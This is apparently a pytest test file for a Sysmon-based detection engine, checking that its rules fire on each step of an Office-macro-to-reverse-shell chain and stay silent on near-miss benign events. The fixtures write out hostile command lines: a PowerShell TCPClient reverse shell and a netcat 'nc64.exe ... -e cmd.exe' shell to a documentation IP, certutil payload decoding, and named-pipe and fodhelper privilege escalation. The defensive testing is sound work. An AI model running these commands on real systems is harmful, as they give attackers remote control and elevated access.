"""The shipped rules detect the macro-to-reverse-shell attack chain, and only that."""

from __future__ import annotations

from typing import Any

import pytest

from stockade.core.model import Severity
from stockade.detection import DetectionEngine, builtin_rules
from stockade.detection.logsource import SYSMON_CHANNEL

OFFICE_SHELL = "Office Application Spawns A Shell Or Script Host"
PRIVESC = "Privilege Escalation Via Named Pipe Impersonation Or UAC Bypass"
INJECTION = "Remote Thread Created By Script Host Or Office In System Process"
REVERSE_SHELL = "PowerShell Or Netcat Reverse Shell"
WHOAMI = "Whoami Executed By Script Host Or Office Application"
CERTUTIL = "CertUtil Decodes A File"

WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"


def process_creation(**overrides: Any) -> dict[str, Any]:
    """A Sysmon EventID 1 event; overrides replace or add fields."""
    event: dict[str, Any] = {
        "EventID": 1,
        "Channel": SYSMON_CHANNEL,
        "Computer": "ws-042.corp.example",
        "UtcTime": "2026-11-26 09:14:03.512",
        "ProcessGuid": "{5770385F-9A1B-6745-2C01-000000000E00}",
        "ProcessId": 6120,
        "Image": r"C:\Windows\System32\notepad.exe",
        "OriginalFileName": "NOTEPAD.EXE",
        "CommandLine": "notepad.exe",
        "CurrentDirectory": r"C:\Users\alice\Documents\\",
        "User": r"CORP\alice",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA256=0F5B3F2A",
        "ParentProcessGuid": "{5770385F-9A00-6745-1F01-000000000E00}",
        "ParentProcessId": 4410,
        "ParentImage": r"C:\Windows\explorer.exe",
        "ParentCommandLine": r"C:\Windows\Explorer.EXE",
    }
    event.update(overrides)
    return event


def remote_thread(**overrides: Any) -> dict[str, Any]:
    """A Sysmon EventID 8 (CreateRemoteThread) event."""
    event: dict[str, Any] = {
        "EventID": 8,
        "Channel": SYSMON_CHANNEL,
        "UtcTime": "2026-11-26 09:15:40.101",
        "SourceProcessGuid": "{5770385F-9A1B-6745-2C01-000000000E00}",
        "SourceProcessId": 6120,
        "SourceImage": POWERSHELL,
        "TargetProcessGuid": "{5770385F-0001-6745-0B00-000000000E00}",
        "TargetProcessId": 4410,
        "TargetImage": r"C:\Windows\explorer.exe",
        "NewThreadId": 7312,
        "StartAddress": "0x00000233A1B40000",
        "StartModule": "",
        "StartFunction": "",
        "SourceUser": r"CORP\alice",
        "TargetUser": r"CORP\alice",
    }
    event.update(overrides)
    return event


ATTACK_CHAIN: list[tuple[str, dict[str, Any], str]] = [
    (
        "macro starts PowerShell",
        process_creation(
            Image=POWERSHELL,
            OriginalFileName="PowerShell.EXE",
            CommandLine="powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            ParentImage=WINWORD,
            ParentCommandLine=rf'"{WINWORD}" /n "C:\Users\alice\Downloads\Invoice-2291.docm"',
        ),
        OFFICE_SHELL,
    ),
    (
        "dropped script asks who it runs as",
        process_creation(
            Image=r"C:\Windows\System32\whoami.exe",
            OriginalFileName="whoami.exe",
            CommandLine="whoami /priv",
            ParentImage=r"C:\Windows\System32\wscript.exe",
        ),
        WHOAMI,
    ),
    (
        "payload is decoded",
        process_creation(
            Image=r"C:\Windows\System32\certutil.exe",
            OriginalFileName="CertUtil.exe",
            CommandLine=r"certutil.exe -decode C:\Users\alice\AppData\Local\Temp\p.b64 p.dll",
            ParentImage=CMD,
        ),
        CERTUTIL,
    ),
    (
        "getsystem named pipe impersonation",
        process_creation(
            Image=CMD,
            OriginalFileName="Cmd.Exe",
            CommandLine=r"cmd.exe /c echo 3a1f9c0d2b > \\.\pipe\3a1f9c",
            ParentImage=r"C:\Windows\System32\services.exe",
            User="NT AUTHORITY\\SYSTEM",
            IntegrityLevel="System",
        ),
        PRIVESC,
    ),
    (
        "UAC bypass through fodhelper",
        process_creation(
            Image=CMD,
            OriginalFileName="Cmd.Exe",
            CommandLine=r"C:\Windows\System32\cmd.exe /c start C:\Users\alice\p.exe",
            ParentImage=r"C:\Windows\System32\fodhelper.exe",
            IntegrityLevel="High",
        ),
        PRIVESC,
    ),
    ("injection into explorer", remote_thread(), INJECTION),
    (
        "PowerShell reverse shell",
        process_creation(
            Image=POWERSHELL,
            OriginalFileName="PowerShell.EXE",
            CommandLine=(
                "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',"
                "443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
                'while(($i=$s.Read($b,0,$b.Length)) -ne 0){;}"'
            ),
            ParentImage=r"C:\Windows\System32\rundll32.exe",
        ),
        REVERSE_SHELL,
    ),
    (
        "netcat reverse shell",
        process_creation(
            Image=r"C:\Users\alice\AppData\Local\Temp\nc64.exe",
            OriginalFileName="",
            CommandLine=r"nc64.exe 203.0.113.7 443 -e cmd.exe",
            ParentImage=CMD,
        ),
        REVERSE_SHELL,
    ),
]

BENIGN: list[tuple[str, dict[str, Any]]] = [
    (
        "Word prints through splwow64",
        process_creation(
            Image=r"C:\Windows\splwow64.exe",
            OriginalFileName="splwow64.exe",
            CommandLine="splwow64.exe 12288",
            ParentImage=WINWORD,
        ),
    ),
    (
        "user opens a shell from Explorer",
        process_creation(Image=CMD, OriginalFileName="Cmd.Exe", CommandLine="cmd.exe"),
    ),
    (
        "PowerShell without a TCP client",
        process_creation(
            Image=POWERSHELL,
            OriginalFileName="PowerShell.EXE",
            CommandLine="powershell.exe -c Get-Content log.txt | Select-String error; $s.Read()",
        ),
    ),
    (
        "PowerShell connectivity test with TCPClient but no stream",
        process_creation(
            Image=POWERSHELL,
            CommandLine=(
                "powershell -c (New-Object Net.Sockets.TCPClient('intranet',443)).Connected"
            ),
        ),
    ),
    (
        "netcat listener without a shell",
        process_creation(
            Image=r"C:\Tools\nc.exe", CommandLine=r"nc.exe -lvp 8080", ParentImage=CMD
        ),
    ),
    (
        "service starts cmd that writes to a file",
        process_creation(
            Image=CMD,
            CommandLine=r"cmd.exe /c echo done > C:\ProgramData\setup.log",
            ParentImage=r"C:\Windows\System32\services.exe",
            IntegrityLevel="System",
        ),
    ),
    (
        "fodhelper child at medium integrity",
        process_creation(
            Image=r"C:\Windows\System32\control.exe",
            ParentImage=r"C:\Windows\System32\fodhelper.exe",
            IntegrityLevel="Medium",
        ),
    ),
    (
        "whoami from an interactive shell",
        process_creation(
            Image=r"C:\Windows\System32\whoami.exe",
            OriginalFileName="whoami.exe",
            CommandLine="whoami",
            ParentImage=CMD,
        ),
    ),
    (
        "certutil encodes a file",
        process_creation(
            Image=r"C:\Windows\System32\certutil.exe",
            CommandLine=r"certutil -encode report.pdf report.b64",
        ),
    ),
    (
        "csrss creates a thread in lsass",
        remote_thread(SourceImage=r"C:\Windows\System32\csrss.exe"),
    ),
    (
        "PowerShell creates a thread in an ordinary application",
        remote_thread(TargetImage=r"C:\Program Files\Mozilla Firefox\firefox.exe"),
    ),
]


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    rule_set = builtin_rules()
    assert rule_set.problems == ()
    return DetectionEngine(rule_set.rules)


def test_every_shipped_rule_loads_without_problems() -> None:
    rule_set = builtin_rules()

    assert rule_set.problems == ()
    assert {rule.info.title for rule in rule_set.rules} == {
        OFFICE_SHELL,
        PRIVESC,
        INJECTION,
        REVERSE_SHELL,
        WHOAMI,
        CERTUTIL,
    }
    for rule in rule_set.rules:
        assert rule.info.source.startswith("builtin:")
        assert len(rule.info.id) == 36
        assert rule.info.mitre_techniques
        assert rule.info.category
        assert rule.info.description


def test_shipped_rules_cover_several_severities() -> None:
    levels = {rule.info.title: rule.info.level for rule in builtin_rules().rules}

    assert levels[OFFICE_SHELL] is Severity.HIGH
    assert levels[PRIVESC] is Severity.HIGH
    assert levels[INJECTION] is Severity.HIGH
    assert levels[REVERSE_SHELL] is Severity.HIGH
    assert levels[WHOAMI] is Severity.MEDIUM
    assert levels[CERTUTIL] is Severity.LOW


def test_categories_follow_the_attack_stage() -> None:
    categories = {rule.info.title: rule.info.category for rule in builtin_rules().rules}

    assert categories[OFFICE_SHELL] == "Execution"
    assert categories[PRIVESC] == "PrivilegeEscalation"
    assert categories[INJECTION] == "DefenseEvasion"
    assert categories[REVERSE_SHELL] == "CommandAndControl"


@pytest.mark.parametrize(
    ("event", "title"),
    [(event, title) for _, event, title in ATTACK_CHAIN],
    ids=[step for step, _, _ in ATTACK_CHAIN],
)
def test_attack_step_fires_exactly_its_rule(
    engine: DetectionEngine, event: dict[str, Any], title: str
) -> None:
    assert [match.rule.title for match in engine.match(event)] == [title]


@pytest.mark.parametrize("event", [event for _, event in BENIGN], ids=[n for n, _ in BENIGN])
def test_close_benign_activity_fires_nothing(
    engine: DetectionEngine, event: dict[str, Any]
) -> None:
    assert engine.match(event) == []


def test_whole_chain_raises_every_behaviour(engine: DetectionEngine) -> None:
    fired = {match.rule.title for _, event, _ in ATTACK_CHAIN for match in engine.match(event)}

    assert fired == {OFFICE_SHELL, PRIVESC, INJECTION, REVERSE_SHELL, WHOAMI, CERTUTIL}


def test_process_rule_ignores_the_same_fields_in_a_network_event(engine: DetectionEngine) -> None:
    _, macro_event, _ = ATTACK_CHAIN[0]

    assert engine.match({**macro_event, "EventID": 3}) == []


def test_process_rule_fires_on_security_4688_and_on_flat_telemetry(
    engine: DetectionEngine,
) -> None:
    _, macro_event, _ = ATTACK_CHAIN[0]
    security = {**macro_event, "EventID": 4688, "Channel": "Security"}
    flat = {k: v for k, v in macro_event.items() if k not in ("EventID", "Channel")}

    assert [match.rule.title for match in engine.match(security)] == [OFFICE_SHELL]
    assert [match.rule.title for match in engine.match(flat)] == [OFFICE_SHELL]
